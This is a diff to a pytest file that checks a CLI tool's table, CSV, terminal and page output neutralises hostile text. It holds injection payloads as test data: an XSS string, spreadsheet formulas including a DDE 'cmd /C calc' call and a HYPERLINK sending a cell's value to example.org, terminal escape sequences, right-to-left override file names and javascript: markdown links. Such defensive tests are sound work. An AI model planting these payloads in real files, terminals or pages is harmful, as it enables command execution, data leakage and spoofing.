@@ -5,11 +5,19 @@ from __future__ import annotations
 import csv
 import io
 import json
+import os
+import re
+import sys
+import unicodedata
+from dataclasses import replace
 from pathlib import Path
 
 import pytest
 
-from flows.render import Format, show
+from flows.artifacts import _cell
+from flows.cli import main
+from flows.plain import say
+from flows.render import Format, show, tell
 from gpurank.answers.reading import Answer
 from gpurank.declared.contracts import ContractError, parse_contract
 from gpurank.declared.validation import CheckResult, ValidationReport
@@ -19,7 +27,11 @@ from gpurank.systems.descriptions import read_description
 from gpurank.versions.roundlock import read as read_lock
 
 SCRIPT = "<script>alert(1)</script>\"'><img src=x onerror=alert(1)>"
-FORMULAS = ("=1+1", "+1", "-1+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1", "\r=1")
+FORMULAS = (
+    "=1+1", "+1", "-1+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\uff1d1+1",
+    "\uff0b1",
+    '=HYPERLINK("https://example.org?"&A1)', "-1", "@",
+)  # fmt: skip
 
 
 def shown(capsys: pytest.CaptureFixture[str], form: Format, *texts: str) -> str:
@@ -47,11 +59,56 @@ def test_json_keeps_what_was_filed(capsys: pytest.CaptureFixture[str]) -> None:
     assert [row["system_name"] for row in found] == [*FORMULAS, SCRIPT]
 
 
-@pytest.mark.parametrize("text", ["\x1b[2J\x1b]0;x\x07", "\x9b31m", "a\x08\x08b", "[bold]x[/bold]"])
+STEERING = (
+    "\x1b[2J\x1b]0;x\x07", "\x9b31m", "a\x08\x08b", "[bold]x[/bold]", "x\ry",
+    "\x1b]8;;file:///\x07x",
+    "\u202egnp.exe", "a\u2066b", "a\u2028b", "\x1b[6n", "\x0e", "\udcff",
+)  # fmt: skip
+
+
+def steers(out: str) -> set[str]:
+    """Characters of an output that a terminal would obey."""
+    kinds = {char: unicodedata.category(char) for char in set(out) - {"\n"}}
+    return {char for char, kind in kinds.items() if kind in ("Cc", "Cf", "Cs", "Zl", "Zp")}
+
+
+@pytest.mark.parametrize("text", STEERING)
 def test_a_terminal_obeys_nothing(capsys: pytest.CaptureFixture[str], text: str) -> None:
-    out = shown(capsys, Format.table, text)
-    assert not {char for char in out if char != "\n" and (ord(char) < 32 or 127 <= ord(char) < 160)}
-    assert "[bold]" in out or "[bold]" not in text
+    answer = Answer((text,), ((text,),), ("VARCHAR",), title=text)
+    for form in (Format.table, Format.csv):
+        show(
+            answer if form is Format.table else replace(answer, columns=("a",)), form, None, (text,)
+        )
+    say(text)
+    say(text, sys.stderr)
+    tell((text,))
+    shown_, told = capsys.readouterr()
+    assert not steers(shown_) and not steers(told)
+    assert "[bold]" in shown_ or "[bold]" not in text
+
+
+def test_what_goes_wrong_with_a_file_is_told_without_steering(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    for name in ("\x1b[2Jresult_0.txt", os.fsdecode(b"\xff\xfe\x9b.txt"), "\u202e.txt"):
+        (tmp_path / name).write_bytes(b"")
+    source = str(tmp_path / "\x1b[31m\udcff")
+    commands = (["ingest", "-r", "v4.0", "--source", source[:-1]], ["mine", str(tmp_path)])
+    for words in commands:
+        more = ["--accelerators", "8", "--accelerator", "A100\x9b"] if words[0] == "mine" else []
+        monkeypatch.setattr(sys, "argv", ["gpurank", *words, *more])
+        with pytest.raises(SystemExit) as ended:
+            main()
+        assert ended.value.code
+        out, told = capsys.readouterr()
+        assert told and not steers(out) and not steers(told)
+
+
+def test_the_orchestrators_page_shows_markup_as_text() -> None:
+    for text in (SCRIPT, "[x](javascript:alert(1))", "![x](//example.org/x.png)", "a|b\nc"):
+        cell = _cell(text)
+        assert "<" not in cell and "\n" not in cell
+        assert not re.search(r"(?<!\\)[\[\]|!]", cell)
 
 
 def test_a_page_shows_markup_as_text() -> None:
